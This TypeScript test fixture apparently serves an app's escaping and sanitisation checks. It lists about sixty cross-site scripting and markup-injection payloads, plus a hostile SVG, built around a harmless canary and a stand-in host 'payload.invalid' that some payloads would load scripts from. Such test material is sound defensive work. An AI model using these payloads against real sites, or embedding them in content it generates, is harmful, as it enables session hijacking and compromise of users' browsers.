/**
 * Texts that try to run, to ask or to lead away (reliability.md R12), written for this app. `RUN` sets the canary and
 * would also ask an address that nobody has; none of them does anything where text stays text.
 */
const RUN = `window.__pwned=1`
const ASK = 'https://payload.invalid/x'

/** As markup and as plain text alike; those that swallow what follows stand last. */
export const PAYLOADS: readonly string[] = [
  // Scripts, and names of elements that parsers read differently.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${ASK}.js"></sCrIpT>`,
  `<script/x>${RUN}</script y>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<xmp><p title="</xmp><script>${RUN}</script>"></xmp>`,
  // Handlers of events.
  `<img src=x onerror=${RUN}>`,
  `<img src="${ASK}.png" onload="${RUN}">`,
  `<img/src="x"/onerror=\u0060${RUN}\u0060>`,
  `<img src=x:x onerror\u000a=\u000a"${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName="href" to="javascript:${RUN}"/></svg>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<div style="animation:rotate 1s" onanimationstart=${RUN}>x</div>`,
  `<p popover id=p onbeforetoggle=${RUN}>x</p><button popovertarget=p>x</button>`,
  // Links and whatever else leads away or asks.
  `<a href="javascript:${RUN}" autofocus>x</a>`,
  `<a href="java\u0009script:${RUN}">x</a>`,
  `<a href="&#x6a;avascript&colon;${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="${ASK}" ping="${ASK}/ping" target=_blank>x</a>`,
  `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN.slice(7)}"></iframe>`,
  `<object data="${ASK}.swf"></object><embed src="${ASK}.pdf">`,
  `<form action="${ASK}"><button formaction="javascript:${RUN}">x</button></form>`,
  `<meta http-equiv=refresh content="0;url=${ASK}">`,
  `<base href="${ASK}/">`,
  `<link rel=stylesheet href="${ASK}.css"><link rel=prefetch href="${ASK}">`,
  `<img srcset="${ASK}.png 1x" loading=eager>`,
  `<table background="${ASK}.png"><tr><td background="${ASK}.png">x</td></tr></table>`,
  // SVG that carries HTML, or fetches.
  `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}">x</body></foreignObject></svg>`,
  `<svg><image href="${ASK}.png"/><use href="${ASK}.svg#x"/></svg>`,
  // Markup that changes its meaning when it is written out and read again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>"></a></style></svg>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  // Style.
  `<style>@import url(${ASK}.css);body{background:url(${ASK}.png)}</style>`,
  `<p style="background:url(${ASK}.png);width:expression(${RUN});position:fixed;inset:0;z-index:99999">x</p>`,
  // Ways out of an attribute, a script, a style, a title, a template of a page.
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}' autofocus onfocus='${RUN}' x='`,
  `</script><script>${RUN}</script>`,
  `</style></title></textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} <%= ${RUN} %>`,
  // What turns the direction of a line around, hides in it, or folds into markup when it is normalised.
  `\u202e<gpj.x=crs gmi>\u202c \u2066javascript:${RUN}\u2069`,
  `＜script＞${RUN}＜/script＞ ‹img src=x onerror=${RUN}›`,
  // These swallow what follows.
  `<title><img src=x onerror=${RUN}>`,
  `<textarea><img src=x onerror=${RUN}>`,
  `<!-- <img src=x onerror=${RUN}>`,
  `<plaintext><img src=x onerror=${RUN}>`,
]

/** A picture that holds everything that a picture may not do; drawn as an image it does nothing of it. */
export const SVG_PAYLOAD =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="320" height="200" ' +
  `viewBox="0 0 320 200" onload="${RUN};top.${RUN.slice(7)}"><script>${RUN};top.${RUN.slice(7)}</script>` +
  `<script xlink:href="${ASK}.js"/><style>@import url(${ASK}.css);rect{fill:url(${ASK}.svg#a)}</style>` +
  `<rect width="320" height="200" fill="#789"/><image href="${ASK}.png" width="9" height="9"/>` +
  `<a href="javascript:top.${RUN.slice(7)}"><text y="90">x</text></a>` +
  `<foreignObject width="99" height="99"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="${ASK}"/>` +
  `<img src="x" onerror="top.${RUN.slice(7)}"/></body></foreignObject></svg>`

/** Text as it stands in XML or HTML. Control characters that XML cannot carry are none of ours. */
export function escapeMarkup(text: string): string {
  return text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
}
